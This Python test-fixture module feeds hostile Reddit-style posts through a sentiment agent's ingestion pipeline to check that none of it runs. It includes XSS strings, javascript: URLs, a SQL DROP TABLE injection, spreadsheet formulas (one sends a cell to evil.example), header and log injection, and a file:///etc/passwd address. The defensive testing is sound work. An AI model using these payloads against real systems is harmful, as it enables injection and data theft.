"""Posts and comments as people write them who mean harm, and the way by which they come into the store.

The way is the real one: an archive's lines, or a stand-in for Reddit behind the real asyncpraw; then the outbox, a
frame, the rules of texts, the store. Only the model is another. Whatever is run or obeyed of it says :data:`CANARY`.
"""

from __future__ import annotations

import json
import time
from typing import TYPE_CHECKING, Any, Final

from fakes.examples import WordEngine
from fakes.fake_reddit import FakeReddit
from fakes.reddit_source import settings_for

from agent.outbox import Outbox
from agent.sentiment.scoring import score_items
from agent.sources.archive import ArchiveSource
from agent.sources.protocol import Page
from agent.sources.reddit import RedditSource
from agent.store.choose import open_writer
from ipc.framing import Deframer, frame
from ipc.messages import Batch, Cycle, Item, SubredditFailure, decode, encode
from ipc.settings import CollectorSettings

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence
    from pathlib import Path

    from ipc.settings import Settings

    Thing = dict[str, Any]

CANARY: Final = "canary"
_RUN: Final = f"globalThis.{CANARY}=1;alert(1)"

#: What stands in titles, texts and names.
TEXTS: Final[dict[str, str]] = {
    "script": f"</title></textarea></script><script>{_RUN}</script><base href=//evil.example>",
    "handler": f"\"><img src=x onerror=\"{_RUN}\"><svg/onload='{_RUN}'><iframe srcdoc='<script>{_RUN}</script>'>'",
    "attribute": f"' autofocus onfocus='{_RUN}' x=' \" onmouseover=\"{_RUN}\" style=\"position:fixed;inset:0",
    "style": "</style><style>*{display:none}@import 'http://evil.example/a.css'</style><link rel=stylesheet href=//e>",
    "meta": '<meta http-equiv="refresh" content="0;url=http://evil.example/"><form action=//evil.example><button>',
    "comment": "<!-- --!> ]]> <![CDATA[ <plaintext> <noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "entities": f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;script&#62; &amp;amp; &#0; &#x202e; &NotEqualTilde; &nbsp",
    "template": "{health} {0.__class__} {{7*7}} ${7*7} #{7*7} <%= 7*7 %> %s %n %(x)s %00 \\u003cscript\\u003e `${1}`",
    "sql": "'; DROP TABLE items; -- \" OR 1=1; /* %' ESCAPE '\\' UNION SELECT * FROM c",
    "formula": "=cmd|' /C calc'!A0",
    "hidden formula": ' \u200b"=HYPERLINK("http://evil.example?"&A1,"click")',
    "lines": "one\r\nX-Injected: canary\r\n\r\n<b>two\n\n\ndata: canary\nevent: health\r\rthree",
    "log": "a\n2026-01-01T00:00:00Z level=error event=Forged canary\u2028b\u2029c\x85d\x0be\x0cf",
    "metric": 'a"} 1\nsentimentagent_canary{b="c\\',
    "json": '"},{"id":"canary"}],"posts":[]} \\" \\u0000 \\',
    "control": "".join(map(chr, [*range(32), *range(127, 160)])) + "\x1b[31mred\x1b]0;canary\x07\x9b2J",
    "bidi": "\u202e\u2067\u2066\u2068\u202d\u202b drow a \u200f\u061c and no end of it",
    "right to left": "\u0647\u0630\u0627 \u0627\u0644\u0645\u062d\u0631\u0631 \u05e8\u05e2 (abc) 123!",
    "zalgo": "".join(letter + "\u0335\u0336\u0321\u0300\u033f\u0489" * 20 for letter in "zalgo he comes"),
    "half an emoji": "half \ud83d and \ude00 the other, reversed \ude00\ud83d",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f1e9\U0001f1ea\U0001f44d\U0001f3fd\u2764\ufe0f" * 50,
    "nothing": "\u200b\u200c\u200d\ufeff\u2060\u00ad\u3164\u115f",
    "wide": "\ufdfd" * 400 + "\u2e3b" * 300 + "\U00012031" * 300,
    "noncharacters": "\ufffe\uffff\U0010ffff\U000e0001\ue000",
    "word": "W" * 200_000,
    "line ends": "\n" * 100_000 + "love",
    "markdown": f"[click](javascript:{_RUN}) ![x](http://evil.example/x.png) <http://evil.example>",
    "prototype": "__proto__ constructor toString hasOwnProperty",
}
#: What stands where an address should.
URLS: Final = (
    f"javascript:{_RUN}",
    f" javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//https://",
    f"java\nscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    "//evil.example/x",
    "https:evil.example",
    "https:///evil.example",
    "https://[::1",
    "https://evil.example/\r\nSet-Cookie: canary=1",
    f'https://evil.example/"onmouseover="{_RUN}',
    f"https://evil.example/'><script>{_RUN}</script>",
    "https://user:password@evil.example:99999/",
    "https://evil.example/\u202egpj.exe",
    "https://\ud800.example/",
    f"https://evil.example/{'a' * 100_000}",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "",
)
#: What no subreddit is called; nothing of it may come in.
SUBREDDITS: Final = (
    "<script>",
    "a\r\nb",
    'a"} 1',
    "../..",
    "a,b",
    "\u202eevil",
    "a" * 10_000,
    "",
    "a b",
    "\ud800",
    "'--",
)
#: What Reddit may call one, and Python, JavaScript or an address may take for something else.
ODD_SUBREDDITS: Final = ("__proto__", "constructor", "u_some-name", "NaN", "a.b:c", "null", "m" * 60)
#: Scores, comments and times.
NUMBERS: Final = (2**63 - 1, -(2**63), 0, -1, 10**15, 1e15)
#: Nothing of these may come in.
NO_NUMBERS: Final = (2**63, 10**400, "many", [1], "0x10")

#: Members of both sides of a shift, in each hour of a day.
_AN_HOUR: Final = 14


def things(now_utc: int) -> Iterator[Thing]:
    """Yield things in the field names of archives: those that are to be shown, then those that are not."""
    texts = list(TEXTS.values())
    for number, text in enumerate(texts):
        yield post(f"t{number}", now_utc - number, text, url=URLS[number % len(URLS)])
        yield _comment(f"c{number}", now_utc - number, text, permalink=f"/{URLS[number % len(URLS)]}")
    for number, subreddit in enumerate(ODD_SUBREDDITS):
        yield post(f"s{number}", now_utc - 100 - number, TEXTS["script"], subreddit=subreddit)
    for number, figure in enumerate(NUMBERS):
        yield post(f"n{number}", now_utc - 200 - number, TEXTS["formula"], score=figure, num_comments=figure)
    # Themes: enough people say the same in titles.
    for number in range(12):
        text = f"<script>{CANARY}</script> =refund|' javascript:refund \u202erefund\u202c {TEXTS['zalgo']}"
        yield post(f"r{number}", now_utc - 3600 - number, text, author=f"author{number}", subreddit="Themes")
    yield from _shift(now_utc)
    for number, subreddit in enumerate(SUBREDDITS):
        yield post(f"x{number}", now_utc - 300, CANARY, subreddit=subreddit)
    for number, nothing in enumerate(NO_NUMBERS):
        yield post(f"y{number}", now_utc - 300, CANARY, score=nothing)
    for created in (-1, 10**12, 1e300, "nan", "inf", None):
        yield post("z0", created, CANARY)
    for name in ("t3_../x", "t3_<b>", "t3_\r\n", "t3_" + "a" * 100, "x", "t5_a", "T3_A"):
        yield post("z1", now_utc - 300, CANARY) | {"name": name}


def post(number: str, created: object, text: str, **changes: object) -> Thing:
    """Return a post in the field names of archives."""
    at = {"id": number, "created_utc": created, "subreddit": "Cursor", "score": 1, "num_comments": 1}
    return at | {"title": text, "selftext": text, "author": text, "url": "https://example.com/"} | changes


def _comment(number: str, created: object, text: str, **changes: object) -> Thing:
    at = {"id": number, "created_utc": created, "subreddit": "Cursor", "score": 1, "link_id": f"t3_{text[:100]}"}
    return at | {"body": text, "author": text} | changes


def _shift(now_utc: int) -> Iterator[Thing]:
    """Yield a day that begins with more love and ends with more hate, which has new words then."""
    short = [text for text in TEXTS.values() if len(text) < 1000]
    for hour in range(24):
        is_late = hour < 12
        for number in range(_AN_HOUR):
            feeling = "love" if number % 7 < (2 if is_late else 5) else "hate"
            text = f"{feeling} {'outage' if is_late else 'sunshine'} {short[number % len(short)]}"
            yield _comment(f"h{hour}x{number}", now_utc - 3600 * hour - 60 * number - 400, text, subreddit="Shift")


def unclean(now_utc: int) -> list[Item]:
    """Return posts as no source of ours takes them, but as another's, or an earlier version's, may be in a store."""
    texts = [text for text in map(_encodable, TEXTS.values()) if len(text) < 1000]
    names = [name[:100] for name in map(_encodable, SUBREDDITS) if name]
    return [
        Item(
            name=f"t3_u{number}",
            subreddit=names[number % len(names)],
            author=texts[number % len(texts)],
            title=texts[number % len(texts)] if number else "T" * 2_000_000,
            content=texts[number % len(texts)] if number else "x" * 400_000 + "\x00",
            url=_encodable(url),
            created_utc=now_utc - number,
            collected_utc=now_utc - 30,
            upvotes=2**63 - 1,
            comment_count=-(2**63),
            source="archive",
        )
        for number, url in enumerate(URLS)
    ]


def _encodable(text: str) -> str:
    return text.encode("utf-8", "replace").decode()


def archive(path: Path, of: Sequence[Thing]) -> int:
    """Write an archive, some lines of it no JSON or no object; return how many lines it has."""
    lines = [json.dumps(thing).encode() for thing in of]
    lines += [b"\x00" * 1000, b"\xff\xfe<script>", b'{"id": "a"', b"[1]", b"[" * 100_000, b'{"id": ' + b"9" * 100_000]
    path.write_bytes(b"\n".join(lines) + b"\n")
    return len(lines)


async def read_archive(path: Path) -> tuple[list[Item], int]:
    """Return what the source takes of an archive, and how many lines it refuses."""
    source = ArchiveSource(CollectorSettings(archive_path=str(path)))
    async with source:
        pages = [page async for page in source.read(source.streams()[0], None)]
    return [item for page in pages for item in page.items], sum(page.rejected_count for page in pages)


async def read_reddit(of: Sequence[Thing]) -> tuple[list[Item], int]:
    """Return what the source takes of the same posts and comments from Reddit, and how many it refuses."""
    async with FakeReddit() as fake:
        for thing in reversed(of):
            kind, listing = ("t1", fake.comments) if "body" in thing else ("t3", fake.posts)
            listing.setdefault("cursor", []).append({"name": f"{kind}_{thing['id']}"} | thing)
        async with RedditSource(settings_for(fake, reddit_listing_limit=1000)) as source:
            pages = [page async for page in source.read("Cursor", None)]
    return [item for page in pages for item in page.items], sum(page.rejected_count for page in pages)


async def store(settings: Settings, items: Sequence[Item]) -> None:
    """Bring items into the store as collector and analyzer do, in frames through an outbox, and a cycle that failed."""
    engine = WordEngine()
    async with Outbox(settings.folders.outbox, 1_000_000) as outbox, open_writer(settings) as writer:
        await outbox.put("archive", "all", Page(items=tuple(items)))
        while outbox.depth:
            (payload,) = Deframer().feed(frame(encode(await outbox.next_batch(0))))
            batch = decode(payload)
            assert isinstance(batch, Batch)
            scored, set_aside = score_items(engine, batch.items, lambda _: None)
            await writer.write(scored, set_aside, [])
            await outbox.settle(batch.seq)
        await writer.write([], [], [_cycle()])


def _cycle() -> Cycle:
    failures = [
        SubredditFailure(subreddit="Cursor", cause="unexpected", detail=f"KeyError: {text}"[:300])
        for text in (TEXTS["script"], _encodable(TEXTS["half an emoji"]), TEXTS["word"])
    ]
    now_utc = time.time()
    return Cycle(
        id="c1",
        source="reddit",
        started_utc=now_utc - 20,
        finished_utc=now_utc - 10,
        outcome="failed",
        posts=1,
        comments=1,
        new=1,
        failures=tuple(failures),
        memory_delta_mb=0.1,
    )
